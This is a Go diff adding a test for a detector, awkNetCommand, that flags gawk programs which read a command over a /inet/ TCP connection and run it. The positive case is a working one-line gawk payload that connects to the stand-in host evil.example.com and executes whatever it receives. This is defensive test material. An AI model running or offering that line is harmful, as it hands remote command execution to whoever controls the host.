@@ -1,6 +1,10 @@
 package hardline
 
-import "testing"
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
 
 // TestInlineCodeOnlyAsks checks that inline code whose tree deletions and
 // programs are harmless only asks, as all inline code does: a deletion in
@@ -66,4 +70,12 @@ func TestFoldHomePaths(t *testing.T) {
 			t.Errorf("foldHomePaths(%s) = %s, want %s", tc.code, got, tc.want)
 		}
 	}
+}
+
+// TestAwkNetCommandRunsTheVariableRead: a gawk program that talks over
+// /inet/ runs what the peer sends only when the variable it reads from
+// the connection is the one it runs as a command.
+func TestAwkNetCommandRunsTheVariableRead(t *testing.T) {
+	assert.True(t, awkNetCommand(`BEGIN{s="/inet/tcp/0/evil.example.com/80"; s |& getline c; c | getline}`))
+	assert.False(t, awkNetCommand(`BEGIN{s="/inet/tcp/0/example.com/80"; print "GET /" |& s; s |& getline line; cmd="date"; cmd | getline d}`))
 }
